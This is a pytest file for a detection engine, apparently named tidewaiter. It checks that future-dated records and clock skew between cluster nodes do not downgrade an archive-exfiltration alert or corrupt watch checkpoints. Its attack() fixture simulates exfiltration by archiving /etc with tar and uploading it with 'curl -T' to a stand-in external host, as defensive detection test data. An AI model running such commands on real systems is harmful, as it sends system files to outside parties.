"""Class 4 of issue 11: time is an input too. A record dated far ahead (2099) from an unrelated
node, or an hour of clock skew between nodes, must not close another node's episode early and
turn its Critical into a Low; in `watch` such a time must not poison the checkpoint."""

from __future__ import annotations

import io
import threading
import time
from pathlib import Path

import msgspec
import pytest
from rich.console import Console

from tests.adversarial.trace import (
    FORMATS,
    PUBLIC,
    T0,
    Trace,
    analytic,
    detect,
    detect_and_report,
    exfil,
)
from tests.helpers import read
from tests.watch.harness import poll
from tests.watch.test_runner import Collect
from tidewaiter.detection.analytics import Finding
from tidewaiter.pipeline import Engine
from tidewaiter.sources.base import ReadReport
from tidewaiter.store import Store
from tidewaiter.watch import state
from tidewaiter.watch.checkpoint import Checkpoints
from tidewaiter.watch.delivery import Delivery
from tidewaiter.watch.expiry import Expiry
from tidewaiter.watch.follow import FileFollower
from tidewaiter.watch.runner import Control, Runner, Timing
from tidewaiter.watch.status import Status

YEAR_2099 = 4_070_908_800.0  # 2099-01-01T00:00:00Z


def attack(host: str = "node-a") -> Trace:
    trace = Trace(host=host)
    tar = trace.run(0, "tar", "czf", "/tmp/a.tgz", "/etc")
    trace.write_file(0.5, tar, "/tmp/a.tgz")
    curl = trace.run(20, "curl", "-T", "/tmp/a.tgz", f"https://{PUBLIC}/")
    trace.send(20.2, curl, PUBLIC, 5_000_000)
    return trace


def other_node(at: float, host: str = "node-c") -> Trace:
    trace = Trace(host=host, container="beef" * 16, ip="10.42.1.9")
    trace.run(at - T0, "ls", "/")
    return trace


def mixed(fmt: str, first: Trace, second: Trace, after: int = 2) -> bytes:
    """Both nodes' records in one file, in arrival order: `second` lands after `after` records
    of `first` (a cluster-wide export, or two nodes read in one round)."""
    a = first.render(fmt).splitlines(keepends=True)
    b = second.render(fmt).splitlines(keepends=True)
    return b"".join([*a[:after], *b, *a[after:]])


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_record_dated_2099_from_another_node_does_not_lower_the_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    path = tmp_path / f"cluster.{fmt}.jsonl"
    path.write_bytes(mixed(fmt, attack(), other_node(YEAR_2099)))
    alerts, err = detect_and_report(capsys, str(path))
    [alert] = exfil(alerts)
    assert alert["severity_id"] == 5, [analytic(a) for a in alerts]
    # The odd record is counted and named with its file and line, like any other odd record.
    assert "1 record(s) dated in the future" in err
    assert f"{path}:3: dated 2099-01-01T00:00:00Z" in err


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_hour_of_skew_between_nodes_does_not_lower_node_a(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    # node-b's clock runs an hour ahead; its records arrive interleaved with node-a's.
    path = tmp_path / f"cluster.{fmt}.jsonl"
    path.write_bytes(mixed(fmt, attack(), other_node(T0 + 3600 + 1, "node-b")))
    [alert] = exfil(detect(capsys, str(path)))
    assert alert["severity_id"] == 5


def _now_attack(engine: Engine, start: float, folder: Path) -> None:
    """The attack, happening now (the clamp is relative to the wall clock)."""
    trace = attack()
    trace.actions = [
        type(a)(**{**a.__dict__, "time": a.time - T0 + start})  # type: ignore[arg-type]
        for a in trace.actions
    ]
    path = folder / "now.tetragon.jsonl"
    path.write_bytes(trace.render("tetragon"))
    events, _ = read(path)
    for event in events:
        engine.process(event)


def test_a_future_record_does_not_poison_the_watch_checkpoint(tmp_path: Path) -> None:
    first: list[Finding] = []
    engine = Engine(first.append)
    future = tmp_path / "future.tetragon.jsonl"
    future.write_bytes(other_node(YEAR_2099).render("tetragon"))
    [event] = read(future)[0]
    engine.process(event)
    assert engine.ahead == 1
    blob = state.snapshot(engine, Expiry())
    # After a restart from that checkpoint, an attack in the present is still decided whole.
    found: list[Finding] = []
    restarted = Engine(found.append)
    state.restore(blob, restarted, Expiry())
    _now_attack(restarted, time.time() - 60, tmp_path)
    restarted.flush()
    assert [f.severity_id for f in found if f.analytic.uid == "tw-archive-exfil"] == [5]


def test_a_checkpoint_already_poisoned_is_clamped_on_restore(tmp_path: Path) -> None:
    old = Engine(lambda f: None)
    old.correlator.advance(YEAR_2099, "node-c")  # as a version without the clamp saved it
    old.correlator.advance(YEAR_2099, "node-a")
    blob = state.snapshot(old, Expiry())
    found: list[Finding] = []
    restarted = Engine(found.append)
    state.restore(blob, restarted, Expiry())
    assert restarted.correlator.watermark <= time.time() + restarted.config.max_ahead
    _now_attack(restarted, time.time() - 60, tmp_path)
    restarted.flush()
    assert [f.severity_id for f in found if f.analytic.uid == "tw-archive-exfil"] == [5]


def test_an_hour_of_skew_between_two_watched_files_does_not_lower_node_a(tmp_path: Path) -> None:
    """`watch` on two nodes' files: node-b's clock runs an hour ahead, and its record arrives
    (in an earlier round) between node-a's archive and node-a's upload."""
    a_lines = attack().render("tetragon").splitlines(keepends=True)
    b_line = other_node(T0 + 3600 + 1, "node-b").render("tetragon")
    node_a, node_b = tmp_path / "node-a.jsonl", tmp_path / "node-b.jsonl"
    node_a.write_bytes(b"".join(a_lines[:2]))  # the tar and its file
    node_b.write_bytes(b"")
    report, sink = ReadReport(), Collect()
    status = Status(Console(file=io.StringIO(), width=200), interval=0)
    followers = [FileFollower(str(p), report, status.say, 1 << 20) for p in (node_a, node_b)]
    with Store(tmp_path / "tw.duckdb") as store:
        runner = Runner(
            lambda on_finding, on_suppressed: Engine(on_finding, on_suppressed=on_suppressed),
            list(followers),
            Delivery([("collect", sink)], None, status.say),
            Checkpoints(store),
            status,
            report,
            Expiry(),
            Timing(checkpoint_interval=60.0, idle_flush=600.0),
        )
        control = Control()
        thread = threading.Thread(target=runner.run, args=(control,), daemon=True)
        thread.start()
        try:
            poll(lambda: runner.engine.events == 2, 20, "node-a's archive")
            with node_b.open("ab") as out:
                out.write(b_line)
            poll(lambda: runner.engine.events == 3, 20, "node-b's record")
            with node_a.open("ab") as out:
                out.write(b"".join(a_lines[2:]))
            poll(lambda: runner.engine.events == 2 + 1 + len(a_lines[2:]), 20, "the upload")
            # node-b's hour ahead decided nothing of node-a's: its episode waits for the upload.
            assert sink.alerts == []
        finally:
            control.request_stop()
            thread.join(timeout=10)
        runner.engine.flush()  # what the end of input or a quiet spell does
        runner.delivery.commit()
    [alert] = sink.alerts
    assert analytic(alert) == "tw-archive-exfil"
    assert alert["severity_id"] == 5


def test_times_no_calendar_holds_are_clamped_and_named(tmp_path: Path) -> None:
    found: list[Finding] = []
    engine = Engine(found.append)
    trace = other_node(YEAR_2099)
    path = tmp_path / "odd.tetragon.jsonl"
    path.write_bytes(trace.render("tetragon"))
    [event] = read(path)[0]
    for when in (float("nan"), float("inf"), 1e300):
        engine.process(msgspec.structs.replace(event, time=when))
    assert engine.ahead == 3
    assert [e.rsplit(" ", 1)[1] for e in engine.ahead_examples] == ["nan", "inf", "1e+300"]
    assert engine.correlator.watermark <= engine.time_ceiling()
